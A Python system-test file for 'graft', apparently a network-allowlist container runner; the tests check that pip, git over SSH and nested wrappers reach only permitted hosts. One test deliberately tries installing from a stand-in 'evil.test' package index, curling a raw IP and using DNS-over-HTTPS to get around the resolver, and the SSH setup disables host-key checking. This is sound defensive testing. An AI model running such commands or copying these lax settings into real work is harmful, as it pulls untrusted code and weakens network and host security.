"""Programs that people run under a list: pip from an HTTPS index, git over SSH; in containers of graft run and of Docker."""

import base64
import hashlib
import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from graft.bench.lab import CLIENT4, GRAFT, HOST4, wait_for
from tests.conftest import need, python
from tests.system.outside import CALLS, NAMESERVER, certificate, outsides

MODES = ((), ("--direct",))
HTTPS = """
import functools, http.server, ssl, sys
directory, certificate, key = sys.argv[1:]
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=directory)
server = http.server.ThreadingHTTPServer(('', 443), handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(certificate, key)
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
"""
FIVE = ("index.test:443", "*.files.test:443")


def wheel(directory: Path) -> str:
    """A package `tiny`, by hand; returns its file's name."""
    name = "tiny-1.0-py3-none-any.whl"
    files = {
        "tiny.py": b"print('tiny is here')\n",
        "tiny-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n",
        "tiny-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    hashes = (f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(c).digest()).rstrip(b'=').decode()},{len(c)}" for n, c in files.items())
    files["tiny-1.0.dist-info/RECORD"] = "\n".join([*hashes, "tiny-1.0.dist-info/RECORD,,", ""]).encode()
    with zipfile.ZipFile(directory / name, "w") as archive:
        for path, content in files.items():
            archive.writestr(path, content)
    return name


@pytest.fixture
def index(host):
    """An index of packages on index.test, whose files are on cdn.files.test, behind a CNAME as PyPI's are; by HTTPS."""
    need("openssl")
    for one in outsides(host):
        one.write(
            {
                "index.test": {"A": [CLIENT4], "TTL": 0},
                "cdn.files.test": {"CNAME": ["edge.elsewhere"], "TTL": 0},
                "edge.elsewhere": {"A": [CLIENT4], "TTL": 0},
                "evil.test": {"A": [CLIENT4]},
            }
        )
        site = host.work / "site"
        page = site / "simple/tiny"
        page.mkdir(parents=True, exist_ok=True)
        name = wheel(site)
        (page / "index.html").write_text(f'<a href="https://cdn.files.test/{name}">{name}</a>')
        made, key = certificate(host.work, "index.test", "cdn.files.test", "evil.test")
        host.spawn(*python(HTTPS), site, made, key, client=True, stderr=subprocess.DEVNULL)
        wait_for(lambda: host.client("ss", "-tlnH", "sport = :443").stdout, "the index")
        yield one


def pip(host, target, *more):
    """The command that installs tiny into @target, by the pip that python3-venv brings."""
    wheels = sorted(Path("/usr/share/python-wheels").glob("pip-*.whl"))
    assert wheels
    options = ("--no-cache-dir", "--disable-pip-version-check", "--retries", "0", "--no-input", "--isolated")
    where = ("--index-url", "https://index.test/simple", "--cert", host.work / "cert.pem", "--target", target)
    bundles = ("-u", "REQUESTS_CA_BUNDLE", "-u", "CURL_CA_BUNDLE")  # which requests prefers to --cert
    return ("env", *bundles, f"PYTHONPATH={wheels[-1]}", "/usr/bin/python3", "-m", "pip", "install", *options, *where, *more, "tiny")


def shown(host, name):
    told = json.loads(host.graft("inspect", name, check=True).stdout)
    return told, {each["name"]: each for each in told["policy"]["refused_names"]}


@pytest.mark.parametrize("mode", MODES, ids=("trap", "direct"))
def test_pip_from_an_allowed_index(index, host, tmp_path, mode):
    """pip installs; another index and another address are refused and counted, by the name that was asked."""
    done = index.run(*pip(host, tmp_path / "in"), allow=FIVE, options=mode)
    assert done.returncode == 0, done.stdout + done.stderr
    assert (tmp_path / "in/tiny.py").exists()
    script = '"$@"; curl -sS --max-time 5 https://192.0.2.7/; curl -sS --max-time 5 https://1.1.1.1/dns-query?name=evil.test; echo over; exec sleep 60'
    evil = pip(host, tmp_path / "out", "--extra-index-url", "https://evil.test/simple")
    listed = [word for each in FIVE for word in ("--allow", each)]
    run = host.spawn_graft(
        "--name", "build", *mode, "--resolver", NAMESERVER, *listed, "sh", "-c", script, "sh", *evil,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )  # fmt: skip
    output = list(iter(run.stdout.readline, "over\n"))
    assert any("evil.test" in line for line in output), output
    told, refused = shown(host, "build")
    assert refused.keys() == {"evil.test"}
    assert refused["evil.test"]["count"] >= 1
    assert [r["address"] for r in told["last_refused"]] == ["192.0.2.7:443", "1.1.1.1:443"]
    assert "evil.test A" not in index.queries()
    host.end(run)
    wait_for(lambda: "build" not in host.containers(), "its end")


@pytest.mark.parametrize("mode", MODES, ids=("trap", "direct"))
def test_git_over_ssh(host, tmp_path, mode):
    """git clone from an allowed name; from another one it says what it says for a name that is not there."""
    need("git", "ssh", "sshd", "ssh-keygen")
    for key in ("host", "user"):
        subprocess.run(("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", tmp_path / key), check=True)
    repository = tmp_path / "repository"
    identity = ("-c", "user.name=x", "-c", "user.email=x@x")
    for argv in (("init", "-q", repository), ("-C", repository, *identity, "commit", "-q", "--allow-empty", "-m", "first")):
        subprocess.run(("git", *argv), check=True)
    authorized = host.work / "authorized"
    shutil.copy(tmp_path / "user.pub", authorized)
    config = tmp_path / "sshd_config"
    config.write_text(
        f"ListenAddress {CLIENT4}\nHostKey {tmp_path / 'host'}\nAuthorizedKeysFile {authorized}\nPidFile none\n"
        "StrictModes no\nUsePAM no\nPermitRootLogin yes\n"
    )
    os.makedirs("/run/sshd", mode=0o755, exist_ok=True)
    for one in outsides(host):
        one.write({"git.test": {"CNAME": ["lb.git.test"]}, "lb.git.test": {"A": [CLIENT4], "TTL": 0}})
        host.spawn("/usr/sbin/sshd", "-D", "-e", "-f", config, client=True, stderr=subprocess.DEVNULL)
        wait_for(lambda: host.client("ss", "-tlnH", "sport = :22").stdout, "sshd")
        ssh = f"ssh -F none -i {tmp_path / 'user'} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
        env = {**host.env, "GIT_SSH_COMMAND": ssh}
        done = one.run("git", "clone", "-q", f"root@git.test:{repository}", tmp_path / "clone", allow=("git.test:22",), options=mode, env=env)
        assert done.returncode == 0, done.stderr
        assert (tmp_path / "clone/.git").is_dir()
        done = one.run("git", "clone", "-q", f"root@lb.git.test:{repository}", tmp_path / "other", allow=("git.test:22",), options=mode, env=env)
        assert done.returncode != 0
        assert "Could not resolve hostname lb.git.test: Name or service not known" in done.stderr


def test_learnt_from_pip(index, host, tmp_path):
    """What --learn prints is enough for the same run."""
    learnt = index.run(*pip(host, tmp_path / "first"), options=("--learn",))
    assert learnt.returncode == 0, learnt.stderr
    at = learnt.stderr.index("# what this run has reached")
    assert '"cdn.files.test:443",\n    "index.test:443",\n' in learnt.stderr
    file = tmp_path / "policy.toml"
    file.write_text(learnt.stderr[at:])
    again = index.run(*pip(host, tmp_path / "second"), options=("--policy", file))
    assert (again.returncode, (tmp_path / "second/tiny.py").exists()) == (0, True), again.stderr


def test_a_wrapper_inside(host):
    """AF_GRAFT's wrapper inside a container is under the container's list as well."""
    for one in outsides(host):
        one.greet(8000, 8001)
        run = host.spawn_graft("--name", "outer", "--resolver", NAMESERVER, "--allow", f"{CLIENT4}:8000", "sleep", "60")
        wait_for(lambda: "outer" in host.containers(), "the container")
        host.add_endpoints({"ep-out": f"type ipv4 addr {HOST4} port dynamic"}, "outer")
        argv = (GRAFT, "-e", "10.77.0.0/24=ep-out", "--", *python(CALLS), f"{CLIENT4}:8000", f"{CLIENT4}:8001")
        done = host.graft("run", "--netns", "outer", *argv)
        assert done.stdout.splitlines() == [f"{CLIENT4}:8000 {CLIENT4}", f"{CLIENT4}:8001 ENETUNREACH"], done.stderr
        host.end(run)
        wait_for(lambda: "outer" not in host.containers(), "its end")
